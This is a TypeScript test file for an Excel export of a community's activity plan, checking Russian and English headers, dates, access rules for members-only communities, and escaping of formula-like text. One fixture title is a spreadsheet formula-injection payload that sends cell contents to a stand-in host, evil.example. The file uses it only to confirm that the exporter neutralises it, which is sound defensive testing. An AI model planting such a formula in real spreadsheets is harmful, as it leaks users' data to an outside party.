import ExcelJS from "exceljs";
import { beforeAll, describe, expect, test } from "vitest";
import { addMembership, createCommunityRow } from "@/test/community-factories";
import { outcome } from "@/test/community-roles";
import { createUser, type TestUser } from "@/test/factories";
import type { Community } from "@/db/schema";
import { createPlanItem } from "./plan";
import { exportPlanXlsx, neutralise } from "./plan-export";

let community: Community;
let hidden: Community;
let leader: TestUser;
let member: TestUser;

beforeAll(async () => {
  community = await createCommunityRow({ name: "Лаборатория функциональной грамотности" });
  hidden = await createCommunityRow({ visibility: "members" });
  leader = await createUser();
  member = await createUser({ fullName: "Петрова Анна Сергеевна" });
  await addMembership(community.id, { userId: leader.id }, { role: "leader" });
  await addMembership(community.id, { userId: member.id });
  await addMembership(hidden.id, { userId: leader.id }, { role: "leader" });
  const items = [
    { title: '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")', description: "+7 (999) 000-00-00", startsOn: "2026-03-02", endsOn: "2026-03-06", responsibleId: member.id, status: "in_progress", link: "https://metodset.example/e/1" },
    { title: "Итоговая конференция", description: "@всем участникам", startsOn: "2026-05-20", endsOn: "2026-05-20", responsibleId: "", status: "planned", link: "" },
  ];
  for (const input of items) {
    const result = await createPlanItem({ actor: leader.actor, slug: community.slug, input });
    if (!result.ok) throw new Error(JSON.stringify(result));
  }
});

async function parse(content: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

describe("exportPlanXlsx", () => {
  test("parses back with Russian headers, real dates and neutralised formulas", async () => {
    const file = await exportPlanXlsx({ viewer: null, slug: community.slug, locale: "ru" });
    expect(file.filename).toBe(`plan-${community.slug}.xlsx`);
    const sheet = await parse(file.content);
    expect(sheet.name).toBe("План деятельности");
    expect(sheet.getCell("A1").value).toBe("План деятельности сообщества «Лаборатория функциональной грамотности»");
    expect((sheet.getRow(2).values as unknown[]).slice(1)).toEqual(["№", "Мероприятие", "Описание", "Начало", "Окончание", "Ответственный", "Статус", "Ссылка"]);

    const first = sheet.getRow(3);
    expect(first.getCell(1).value).toBe(1);
    // Never a formula: the text is kept, behind an apostrophe.
    expect(first.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(first.getCell(2).formula).toBeUndefined();
    expect(first.getCell(2).value).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")`);
    expect(first.getCell(3).value).toBe("'+7 (999) 000-00-00");
    expect(first.getCell(4).type).toBe(ExcelJS.ValueType.Date);
    expect(first.getCell(4).value).toEqual(new Date(Date.UTC(2026, 2, 2)));
    expect(first.getCell(5).value).toEqual(new Date(Date.UTC(2026, 2, 6)));
    expect(first.getCell(4).numFmt).toBe("dd.mm.yyyy");
    expect(first.getCell(6).value).toBe("Петрова Анна Сергеевна");
    expect(first.getCell(7).value).toBe("Выполняется");
    expect(first.getCell(8).value).toBe("https://metodset.example/e/1");

    const second = sheet.getRow(4);
    expect(second.getCell(2).value).toBe("Итоговая конференция");
    expect(second.getCell(3).value).toBe("'@всем участникам");
    expect(second.getCell(7).value).toBe("Запланировано");
    expect(sheet.rowCount).toBe(4);
  });

  test("English headers for the English interface", async () => {
    const sheet = await parse((await exportPlanXlsx({ viewer: null, slug: community.slug, locale: "en" })).content);
    expect(sheet.getRow(2).getCell(2).value).toBe("Activity");
    expect(sheet.getRow(3).getCell(7).value).toBe("In progress");
  });

  test("a members-only community's plan is exported only to those who may read it", async () => {
    const stranger = await createUser();
    expect(await outcome(async () => (await exportPlanXlsx({ viewer: null, slug: hidden.slug, locale: "ru" }), { ok: true }))).toBe("forbidden");
    expect(await outcome(async () => (await exportPlanXlsx({ viewer: stranger.actor, slug: hidden.slug, locale: "ru" }), { ok: true }))).toBe("forbidden");
    expect(await outcome(async () => (await exportPlanXlsx({ viewer: leader.actor, slug: hidden.slug, locale: "ru" }), { ok: true }))).toBe("ok");
  });

  test.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["Обычный текст", "Обычный текст"],
    ["a=b", "a=b"],
  ])("neutralise(%j) → %j", (input, expected) => {
    expect(neutralise(input)).toBe(expected);
  });
});
